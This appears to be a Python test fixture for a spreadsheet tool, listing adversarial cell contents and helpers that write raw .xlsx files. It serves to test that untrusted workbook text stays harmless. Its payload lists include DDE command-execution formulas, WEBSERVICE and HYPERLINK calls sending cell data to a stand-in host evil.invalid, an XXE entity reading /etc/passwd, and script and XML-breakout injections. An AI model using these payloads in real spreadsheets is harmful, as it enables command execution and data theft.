"""Texts that a program might take for something else than text, and workbooks of strangers that hold them everywhere.

The workbooks are written as raw XML, so that nothing is lost on the way in: no library changes, drops or brings to life
what stands in a cell.
"""

import re
import zipfile
from collections.abc import Iterable, Mapping, Sequence
from pathlib import Path
from typing import Final
from xml.sax.saxutils import escape, quoteattr

from xl_templates.references import column_letters

_CALLS: Final = (
    "1+1",
    "SUM(A1:A9)",
    "A1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.invalid/?x="&A1,"点我")',
    'WEBSERVICE("http://evil.invalid/")',
    'IMPORTXML("http://evil.invalid/","//a")',
    'DDE("cmd";"/C calc";"x")',
    'INDIRECT("zs_record!A1")',
)
FAMILIES: Final[dict[str, tuple[str, ...]]] = {
    "formulas": tuple(f"{sign}{call}" for sign in "=+-@" for call in _CALLS),
    "wide signs": tuple(f"{sign}{call}" for sign in "＝＋－＠" for call in _CALLS[:4]),
    "hidden signs": tuple(
        f"{before}=1+1"
        for before in ("\t", "\n", "\r", "\r\n", " ", "　", "\u00a0", "\u200b", "\ufeff", "'", '"', "''")
    ),
    "arrays": ("{=1+1}", "{=SUM(A1:A9)}", "{1,2;3}", "=[1]Sheet1!A1", "=[evil.xlsx]Sheet1!A1", "='\\\\host\\[a]b'!A1"),
    "macros": ('=CALL("urlmon","x")', '=EXEC("calc")', '=REGISTER("a")', "=HALT()", "@AUTO_OPEN", "Auto_Open"),
    "DDE": (
        "DDEAUTO c:\\windows\\system32\\cmd.exe",
        "cmd|' /C calc'!A0",
        "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
        "=rundll32|'URL.dll,OpenURL calc.exe'!A",
        "+cmd|' /C calc'!'A0'",
        "=soffice|'a'!b",
    ),
    "addresses": tuple(
        f"{scheme}{rest}"
        for scheme, rest in (
            ("http://", "evil.invalid/a?b=c&d=e#f"),
            ("HTTPS://", "evil.invalid"),
            ("ftp://", "evil.invalid/x"),
            ("mailto:", "a@evil.invalid?subject=x"),
            ("file://", "/etc/passwd"),
            ("file:///", "C:/windows"),
            ("\\\\evil.invalid\\", "share\\x.xlsx"),
            ("//evil.invalid/", "share"),
            ("internal:", "zs_record!A1"),
            ("external:", "c:\\a.xlsx"),
            ("javascript:", "alert(1)"),
            ("data:", "text/html,<b>"),
            ("vbscript:", "x"),
            ("ms-excel:", "ofe|u|http://evil.invalid/a.xlsx"),
            ("search-ms:", "query=x&crumb=location:\\\\evil.invalid"),
            ("tel:", "110"),
            ("www.", "evil.invalid"),
            ("C:", "\\windows\\system32\\calc.exe"),
            ("../../", "../etc/passwd"),
            ("#", "zs_record!A1"),
        )
    ),
    "invisible": tuple(
        f"甲{sign}乙"
        for sign in "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202d\u202e\u2060\u2066\u2069\ufeff\u00ad\u2028\u2029\u0085"
    ),
    "control": tuple(f"制{chr(number)}符" for number in (*range(0x20), 0x7F, 0x80, 0x9B)),
    "no characters": ("甲\ufffe乙", "甲\uffff乙", "甲\ud800乙", "甲\udc00乙", "\udfff", "\U0001fffe甲"),
    "terminal": (
        "\x1b[31m红\x1b[0m",
        "\x1b]0;标题\x07",
        "\x1b]8;;http://evil.invalid\x1b\\点\x1b]8;;\x1b\\",
        "\x1b[2J\x1b[H",
        "\x9b31m",
        "a\rb\x08\x08",
        "[red]x[/red]",
        "[link=http://evil.invalid]x[/link]",
        "甲\n[错误] ZS-000 假",
    ),
    "escapes": (
        "_x0041_",
        "_x000D_",
        "_x000d_",
        "_x005F_",
        "_x005F_x0041_",
        "_x0041_x0042_",
        "_X0041_",
        "_x41_",
        "__x0000__",
        "_xFFFE_",
        "_xD800_",
        "\\u0041\\x41\\n",
        "\\u{41}",
        "%41%00%0A",
        "&#65;&#x41;&amp;",
        "{unit}{0}%s%(a)d$x",
    ),
    "markup": (
        "<b>粗</b>",
        "<script>alert(1)</script>",
        '<img src="http://evil.invalid/a.png">',
        "a & b < c > d \" e ' f",
        "]]>",
        "<![CDATA[x]]>",
        "<!-- x -->",
        '<?xml version="1.0"?>',
        "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
        "<r><t>x</t></r>",
        "<r></sst><evil/></r>",
        "</t></is></c><c><f>1+1</f></c><c><is><t>",
        '</v></c><c r="A1"><f>1+1</f><v>',
        '"/><hyperlink ref="A1" location="x',
        "<r><rPr><b/></rPr><t>甲</t></r>",
        "&G&A&F&D&P",
        '&"Arial"&12x',
    ),
    "places": (
        "$A$1",
        "A1",
        "R1C1",
        "A:A",
        "1:1",
        "Sheet1!A1",
        "'1落地'!A1",
        "#REF!A1",
        "_xlnm.Print_Area",
        "_xlfn.CONCAT(A1)",
        "zs_stamp",
        "zs_record",
        "SUM",
        "名称_1",
        "[1]",
        "[总投资]",
        "A1:B2,C3",
        "@[列]",
        "!A1",
    ),
    "numbers": (
        "007",
        "1e5",
        "1E+400",
        "0x10",
        "1,234.50",
        "12345678901234567890",
        "１２３",
        "50%",
        "￥100",
        "1/2",
        "-5",
        "+5",
        "(5)",
        "NaN",
        "inf",
        "-0",
        "½",
        "1 000",
    ),
    "dates": ("2023-02-01", "2023年2月", "1-2", "3/4", "12:30", "Feb-23", "20230201", "2023.1.25"),
    "values": (
        "TRUE",
        "false",
        "#N/A",
        "#REF!",
        "#SPILL!",
        "#DIV/0!",
        "NULL",
        "None",
        "nan",
        "Null",
        "()",
        "[]",
        "{}",
    ),
    "long": (
        "=" + "长" * 9_999,
        "字" * 32_767,
        "😀" * 16_383 + "。",
        "=HYPERLINK(" + "a" * 39_000,
        "甲\n" * 3_000 + "乙",
    ),
    "plain": (
        "O'Brien 公司",
        "“引号”《书名》",
        "𠮷野家😀👨‍👩‍👧",
        "\u00e9 e\u0301",
        "ﷺ",
        "  两边　",
        "甲\t乙",
        "甲\n乙",
        "ǅ ß İ",
    ),
}
PAYLOADS: Final = tuple(text for family in FAMILIES.values() for text in family)

# --- what the documents say becomes of them ---------------------------------------------------------------------------

_UNSEEN: Final = re.compile(
    r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b-\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff\ufffe\uffff]"
)
_WHITE: Final = " \u3000\u00a0\t\r\n"
_UNHELD: Final = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\ufffe\uffff\ud800-\udfff]")


def as_read(text: str) -> str | None:
    """What a text column holds once the cell has been read: docs/reading.md, 读一个文件, 5."""
    return _UNSEEN.sub("", text.strip(_WHITE)).strip(_WHITE) or None


def as_shown(text: str | None) -> str | None:
    """What a cell of a summary shows for a text of the month: docs/summary.md, 怎样写到磁盘上."""
    if text is None:
        return None
    clean = _UNHELD.sub("\ufffd", text.replace("\r\n", "\n").replace("\r", "\n"))
    if len(clean.encode("utf-16-le")) > 64_000:
        clean = f"{clean[:16_000]}……（太长，只显示前 16000 字；全文 {len(clean)} 字，在记录里）"
    return clean + " " if clean.startswith("<r>") and clean.endswith("</r>") else clean


# --- workbooks as strangers make them ---------------------------------------------------------------------------------

_MAIN: Final = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATIONS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HEAD: Final = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_UNWRITTEN: Final = re.compile("[\x00-\x08\x0b-\x0d\x0e-\x1f\ufffe\uffff\ud800-\udfff]|_(?=x[0-9a-fA-F]{4}_)")
_ESCAPE: Final = re.compile("_x([0-9a-fA-F]{4})_")


def in_xml(text: str) -> str:
    """A text as Excel writes it into a cell: what XML has no sign for is spelled _xHHHH_."""
    return escape(_UNWRITTEN.sub(lambda found: f"_x{ord(found[0]):04X}_", text))


def out_of_xml(text: str) -> str:
    """The text that a cell's XML stands for, as Excel reads it."""
    return _ESCAPE.sub(lambda found: chr(int(found[1], 16)), text)


def cell(reference: str, value: object, style: str = "") -> str:
    """A cell of a text or a number; one in <is> or <f> is XML already."""
    if value is None:
        return ""
    if isinstance(value, int | float):
        return f'<c r="{reference}"{style}><v>{value}</v></c>'
    text = str(value)
    if text.startswith(("<is>", "<f>")):
        return f'<c r="{reference}"{style} t="{"inlineStr" if text[1] == "i" else "str"}">{text}</c>'
    return f'<c r="{reference}"{style} t="inlineStr"><is><t xml:space="preserve">{in_xml(text)}</t></is></c>'


def sheet_xml(rows: Iterable[Sequence[object]], more: str = "") -> str:
    """The XML of a sheet; ``more``: what stands below the cells."""
    lines = []
    for at, row in enumerate(rows, start=1):
        cells = (cell(f"{column_letters(column)}{at}", value) for column, value in enumerate(row))
        lines.append(f'<row r="{at}">{"".join(cells)}</row>')
    return f'{_HEAD}<worksheet {_MAIN} xmlns:r="{_RELATIONS}"><sheetData>{"".join(lines)}</sheetData>{more}</worksheet>'


def write_book(path: Path, sheets: Mapping[str, str], names: str = "", more: Mapping[str, str] | None = None) -> None:
    """Write a workbook of sheets (name → XML). ``names``: <definedNames>; ``more``: other parts."""
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    numbers = range(1, len(sheets) + 1)
    listed = "".join(
        f'<sheet name={quoteattr(name)} sheetId="{at}" r:id="rId{at}"/>'
        for at, name in zip(numbers, sheets, strict=True)
    )
    related = "".join(
        f'<Relationship Id="rId{at}" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet{at}.xml"/>'
        for at in numbers
    )
    typed = "".join(
        f'<Override PartName="/xl/worksheets/sheet{at}.xml" ContentType="{kind}.worksheet+xml"/>' for at in numbers
    )
    package = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default '
        'Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>{typed}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" '
        f'Type="{_RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook {_MAIN} xmlns:r="{_RELATIONS}"><sheets>{listed}</sheets>{names}</workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships">{related}</Relationships>',
    }
    parts |= {f"xl/worksheets/sheet{at}.xml": xml for at, xml in zip(numbers, sheets.values(), strict=True)}
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in {**parts, **(more or {})}.items():
            archive.writestr(name, text if text.startswith("<?xml") else _HEAD + text)
